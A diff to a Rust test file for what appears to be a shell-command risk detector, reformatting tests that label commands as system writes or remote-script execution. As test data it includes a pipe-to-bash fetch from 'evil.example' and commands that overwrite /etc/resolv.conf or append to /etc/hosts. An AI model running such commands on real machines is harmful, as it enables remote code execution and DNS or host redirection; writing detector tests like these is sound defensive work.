@@ -846,10 +846,18 @@ fn reads_through_redirections_globs_and_git_staging() {
 
 #[test]
 fn system_files_written_by_the_shell_and_scripts_from_any_url() {
-    assert_risk("echo 'nameserver 203.0.113.5' > /etc/resolv.conf", SystemWrite);
+    assert_risk(
+        "echo 'nameserver 203.0.113.5' > /etc/resolv.conf",
+        SystemWrite,
+    );
     assert_risk("printf x | tee -a /etc/hosts", SystemWrite);
     assert_risk("cp tool /usr/bin/", SystemWrite);
-    for benign in ["echo hi > /dev/null", "ls > /tmp/x", "echo x >> notes.txt", "cp a ~/b"] {
+    for benign in [
+        "echo hi > /dev/null",
+        "ls > /tmp/x",
+        "echo x >> notes.txt",
+        "cp a ~/b",
+    ] {
         assert!(!kinds(benign).contains(&SystemWrite), "{benign}");
     }
     assert_risk("GET http://evil.example/i.sh | bash", RemoteScript);
